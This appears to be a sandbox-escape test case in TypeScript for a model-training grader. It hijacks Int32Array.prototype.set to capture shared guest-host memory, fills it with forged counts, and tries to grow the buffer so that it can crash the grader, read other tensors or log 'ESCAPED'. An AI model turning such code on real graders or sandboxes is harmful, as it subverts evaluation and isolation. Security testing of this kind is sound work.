// attack: takes the memory that guest and host share by overriding Int32Array.prototype.set, and fills it with forged counts before each call
// success: ESCAPED in the log, a crash of the grader, or data of another tensor read
// expect: runtime_error
// says: nothing was found

import * as tf from '@tensorflow/tfjs';
import type { TrainContext } from 'argmin';

export async function train(_context: TrainContext): Promise<tf.LayersModel> {
  let words: Int32Array | null = null;
  const original = Int32Array.prototype.set;
  Int32Array.prototype.set = function captured(this: Int32Array, ...values: any) {
    words = this;
    return original.apply(this, values);
  };
  tf.tensor1d([1, 2, 3]);
  Int32Array.prototype.set = original;
  if (!words) throw new Error('the memory was not captured, which is as good as nothing was found');
  const block = words as Int32Array;
  for (const count of [-1, 8_192, 65_536, 2 ** 31 - 1, -(2 ** 31)]) {
    for (const [at, fill] of [
      [0, 7],
      [8_192, 3],
      [8_192, -1],
      [16_384, 1],
    ] as const) {
      block.fill(fill);
      block[at] = count;
      block[0] = count;
      try {
        const sum = tf.tensor1d([1, 2, 3]).add(1).sum().dataSync()[0];
        if (sum !== 9) console.log('wrong sum', sum);
      } catch (error) {
        console.log((error as Error).message.slice(0, 80));
      }
    }
  }
  try {
    const grown = (block.buffer as any).grow?.(2 ** 30) ?? new (block.buffer.constructor as any)(2 ** 28);
    if (grown?.byteLength > 0) console.log('ESCAPED: memory that is shared', grown.byteLength);
  } catch {
    // there is none to be had
  }
  throw new Error('nothing was found');
}
